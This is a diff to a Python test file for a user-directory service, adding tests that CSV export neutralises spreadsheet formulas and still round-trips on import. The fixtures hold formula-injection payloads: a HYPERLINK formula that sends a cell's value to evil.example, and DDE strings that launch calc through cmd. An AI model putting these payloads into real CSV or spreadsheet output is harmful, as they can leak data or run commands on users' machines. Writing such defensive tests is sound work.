@@ -3,6 +3,9 @@ CSV import (all or nothing, every bad line by number) and export, and /api/users
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from fastapi.testclient import TestClient
 
@@ -155,7 +158,48 @@ def test_csv_import_and_export_round_trip(directory: Directory) -> None:
     assert alice_found.fingerprints == ("fp-1", "fp-2")
     assert alice_found.addresses == ["alice@example.com", "alice@work.example"]
     exported = directory.export_csv()
-    assert exported.replace("\r\n", "\n") == text
+    assert exported.replace("\r\n", "\n") == HEADER + (
+        '"u-alice","Alice Novak","alice@example.com, alice@work.example","101;102","0012AB34CD",'
+        '"bt-1","fp-1;fp-2"\n"u-bob","Bob","","103","","",""\n'
+    )
+    assert parse_csv(exported) == parse_csv(text)
+
+
+# What a spreadsheet would run as a formula, written into every kind of cell.
+FORMULA_USER = User(
+    id="@home",
+    name="=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")",
+    email="=1+2@example.com",
+    numbers=("+420601123456", "+420 2 1234 5678"),
+    cards=("0012AB34CD",),
+    bluetooth=("-2+3+cmd|' /C calc'!A0",),
+    fingerprints=("@SUM(1+1)*cmd|' /C calc'!A0", "fp-2"),
+)
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(directory: Directory) -> None:
+    directory.import_users([FORMULA_USER])
+    [row] = list(csv.reader(io.StringIO(directory.export_csv())))[1:]
+    assert [cell[:2] for cell in row] == ["'@", "'=", "'=", "'+", "00", "'-", "'@"]
+    for line in directory.export_csv().splitlines()[1:]:
+        # Quoted, so that a spreadsheet splitting at `;` (as in many locales) keeps the cells.
+        assert line.startswith('"') and line.endswith('"')
+
+
+def test_an_exported_csv_imports_back_the_same_values(directory: Directory) -> None:
+    apostrophes = User(id="u-2", name="'t Hooft", numbers=("'=1",), cards=("AB12CD34",))
+    directory.import_users([FORMULA_USER, apostrophes])
+    exported = directory.export_csv()
+    assert parse_csv(exported) == [FORMULA_USER, apostrophes]
+    number = parse_csv(exported)[0].numbers[0]
+    assert number == "+420601123456"
+
+
+def test_a_csv_written_by_hand_keeps_its_values_as_written() -> None:
+    text = HEADER + "u-1,'t Hooft,,+420601123456;+421,,,\n"
+    [user] = parse_csv(text)
+    assert user.name == "'t Hooft"
+    assert user.numbers == ("+420601123456", "+421")
 
 
 def test_csv_columns_may_come_in_any_order_and_ids_are_generated() -> None:
@@ -291,7 +335,17 @@ def test_users_api_export_is_csv(api: TestClient) -> None:
     api.post("/api/users", json={"id": "u-1", "name": "Alice", "cards": ["ab12cd34"]})
     reply = api.get("/api/users/export")
     assert reply.headers["content-type"].startswith("text/csv")
-    assert reply.text.splitlines() == [HEADER.strip(), "u-1,Alice,,,AB12CD34,,"]
+    assert reply.text.splitlines() == [HEADER.strip(), '"u-1","Alice","","","AB12CD34","",""']
+
+
+def test_users_export_of_the_api_and_the_users_tab_neutralises_formulas(api: TestClient) -> None:
+    # The Users tab's "Export CSV" link is this same route.
+    api.post("/api/users", json={"id": "u-1", "name": "=cmd|' /C calc'!A0", "numbers": ["+420"]})
+    reply = api.get("/api/users/export")
+    assert reply.text.splitlines()[1] == '"u-1","\'=cmd|\' /C calc\'!A0","","\'+420","","",""'
+    imported = api.post("/api/users/import", content=reply.text, headers={"Content-Type": "text/csv"})
+    assert imported.status_code == 200, imported.text
+    assert api.get("/api/users/u-1").json()["numbers"] == ["+420"]
 
 
 def test_users_api_needs_authentication(anonymous: TestClient) -> None:
